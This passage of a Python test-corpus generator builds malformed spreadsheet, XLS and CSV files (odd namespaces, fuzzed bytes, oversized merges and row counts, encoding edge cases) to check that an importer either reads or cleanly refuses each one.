                members[name] = members[name].replace(old, new)
    return _zip(members)


def _prefixed_sheet(xml: str) -> str:
    xml = xml.replace('<worksheet xmlns="', '<x:worksheet xmlns:x="', 1)
    xml = re.sub(r"<(/?)(?!x:)([A-Za-z]+)([ >/])", r"<\1x:\2\3", xml)
    return xml.replace("</worksheet>", "</x:worksheet>")


def _odd_format_cases() -> list[Case]:
    rows = standard_sheet_rows()
    rows[4][6] = "注" * 3000
    tab_text = "\r\n".join("\t".join("" if v is None else str(v) for v in row) for row in rows)
    nul_late = csv_bytes(standard_sheet_rows()) + b"," * 10_000 + b"\x00\r\n"
    return [
        Case("xlsx_strict_ooxml.xlsx", _strict_ooxml(good_xlsx()), "ok", ALL_FIGURES),
        Case("xlsx_prefixed_namespace.xlsx", patch_sheet(good_xlsx(), _prefixed_sheet), "ok",
             ALL_FIGURES),
        Case("xlsx_error_bool_date_cells.xlsx",
             set_cell(set_cell(set_cell(good_xlsx(), "D4", '<c r="{ref}" t="e"><v>#N/A</v></c>'),
                               "D5", '<c r="{ref}" t="b"><v>1</v></c>'),
                      "D6", '<c r="{ref}" t="d"><v>2024-10-01T00:00:00</v></c>'), "ok",
             all_of(figures(*ALL_CODES[3:]), problem("Sheet1!D4", "01", "current"),
                    problem("Sheet1!D5", "02", "current"), problem("Sheet1!D6", "03", "current"))),
        Case("unicode_text_utf16.txt", b"\xff\xfe" + tab_text.encode("utf-16-le"), "ok",
             ALL_FIGURES),
        Case("csv_nul_after_4k.csv", nul_late, "ok", ALL_FIGURES),
    ]  # fmt: skip


def _mutated(data: bytes, seed: int, flips: int) -> bytes:
    rng = random.Random(seed)
    body = bytearray(data)
    for _ in range(flips):
        body[rng.randrange(len(body))] = rng.randrange(256)
    return bytes(body)


def _fuzz_cases() -> list[Case]:
    """Seeded byte damage: read or refused, but always one of the two, cleanly."""
    sources = {
        "xlsx": good_xlsx(),
        "xls": oa_html(html_table_rows()).encode("gbk"),
        "csv": csv_bytes(standard_csv_rows()),
    }
    return [
        Case(f"fuzz_{kind}_{seed}.{kind}", _mutated(data, seed, 1 + seed * 7), "either")
        for kind, data in sources.items()
        for seed in range(5)
    ]


def _bounded_cases() -> list[Case]:
    def wide_merge(xml: str) -> str:
        xml = re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:A1"/>', xml)
        return xml.replace(
            "</sheetData>",
            '</sheetData><mergeCells count="1"><mergeCell ref="H1:XFD1048576"/></mergeCells>',
        )

    def filler(xml: str) -> str:
        rows = "".join(
            f'<row r="{r}"><c r="A{r}" t="n"><v>1</v></c></row>' for r in range(40, 60_000)
        )
        return xml.replace("</sheetData>", rows + "</sheetData>")

    def no_refs(xml: str) -> str:
        return re.sub(r' r="[A-Z]+\d+"', "", xml)  # rows keep r=, cells lose theirs

    return [
        Case("xlsx_sheet_wide_merge.xlsx", patch_sheet(good_xlsx(), wide_merge), "ok", ALL_FIGURES),
        Case("xlsx_60000_filler_rows.xlsx", patch_sheet(good_xlsx(), filler), "ok", ALL_FIGURES),
        Case("xlsx_cells_without_refs.xlsx", patch_sheet(good_xlsx(), no_refs), "ok", ALL_FIGURES),
    ]  # fmt: skip


def _committed_cases() -> list[Case]:
    expectations: dict[str, tuple[str, Check | None]] = {
        "oa_export_real_shape.xls": ("ok", all_of(
            figures("01", "02", "03", "13"), field_is("unit_code", UNIT_CODE),
            value_is("04", "last_year", 104), problem("oa_export_real_shape#2!A10", None, "code"),
        )),
        "formula_and_control_names.csv": ("ok", all_of(ALL_FIGURES,
                                                       field_is("unit_code", UNIT_CODE))),
    }  # fmt: skip
    cases = []
    for path in sorted(COMMITTED.iterdir()):
        expect, check = expectations[path.name]
        cases.append(Case(path.name, path.read_bytes(), expect, check, why="committed file"))
    return cases


def cases() -> list[Case]:
    every = [
        *_nonfinite_cases(),
        *_formula_cases(),
        *_control_cases(),
        *_html_cases(),
        *_sheets_cases(),
        *_csv_field_cases(),
        *_period_cases(),
        *_header_cases(),
        *_refusal_cases(),
        *_bounded_cases(),
        *_xls_cases(),
        *_odd_format_cases(),
        *_fuzz_cases(),
        *_committed_cases(),
    ]
    names = [case.name for case in every]
    assert len(names) == len(set(names)), "corpus file names must be unique"
    return every


def build(folder: Path, built: list[Case] | None = None) -> list[Case]:
    folder.mkdir(parents=True, exist_ok=True)
    built = cases() if built is None else built
    for case in built:
        (folder / case.name).write_bytes(case.data)
    return built


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")
    print(f"{len(build(target))} files in {target}")
